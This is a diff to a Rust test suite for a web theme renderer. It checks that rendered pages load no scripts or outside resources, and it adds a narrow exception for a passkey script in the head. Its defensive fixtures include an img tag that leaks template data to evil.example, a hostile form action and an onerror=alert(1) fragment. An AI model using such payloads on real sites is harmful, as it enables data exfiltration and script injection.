@@ -46,6 +46,18 @@ fn every_page_renders_with_every_sample() {
 fn no_page_runs_or_loads_anything_and_hostile_text_stays_text() {
     for sample in shipped().samples() {
         let html = sample.html.unwrap().to_ascii_lowercase();
+        // The one script is a file of ours, in the head of pages that ask for a passkey.
+        let ours = html
+            .find("<script src=\"/assets/passkey.")
+            .filter(|_| html.contains("name=\"ceremony\""));
+        let html = match ours {
+            Some(at) => html.replacen(
+                "<script src=\"/assets/passkey.",
+                "",
+                usize::from(at < html.find("<body").unwrap()),
+            ),
+            None => html,
+        };
         for never in ["<script", "style=", "onerror=alert(1)>", "javascript:", "evil.example"] {
             assert!(!html.contains(never), "{}: {never}", sample.name);
         }
@@ -222,7 +234,7 @@ fn all_broken_overrides_are_reported_together() {
 #[test]
 fn a_hostile_theme_is_refused_as_a_whole() {
     for (note, reason) in [
-        ("<script src=/x></script>", "a page holds no <script> element"),
+        ("<script src=/x></script>", "<script> belongs into the head"),
         ("<img src='https://evil.example/?q={{ page.who }}'>", "which is not a file of this theme"),
         ("<form action='https://evil.example'>", "a form must be opened with `form_open(action)`"),
         ("{{ form_open('https://evil.example') }}", "a form goes to a path on this host"),
